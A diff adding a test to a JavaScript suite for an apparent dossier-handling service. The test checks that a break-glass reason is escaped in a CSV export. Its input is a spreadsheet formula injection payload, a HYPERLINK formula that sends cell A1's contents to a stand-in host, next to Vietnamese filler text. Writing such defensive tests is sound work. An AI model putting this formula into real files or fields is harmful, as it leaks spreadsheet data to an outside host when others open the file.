@@ -121,6 +121,11 @@ test('with a reason, for half an hour, and everybody who must knows', async (t) 
     reason: REASON,
   });
   assert.equal((await list('officer')).status, 403);
+  // A reason that a spreadsheet would reckon is told as text, in the file that others open.
+  const sum = '=HYPERLINK("http://a.example/?"&A1) cần giấy tờ ngay để mổ cấp cứu';
+  assert.equal((await post(clients.inspector, '/dossiers/K-1/break-glass', { reason: sum })).status, 303);
+  const told = csv((await (await as('head')).get('/break-glass.csv')).text).map((r) => r.reason);
+  assert.ok(told.includes(`'${sum}`) && !told.includes(sum), told.join('\n'));
   assert.match((await (await as('admin')).get('/break-glass')).text, /Lê Văn Tám/);
   const journal = motcua('export', 'journal', '--data', data).out;
   assert.match(journal, /"who":"officer","act":"dossier\.glass_broken"/);
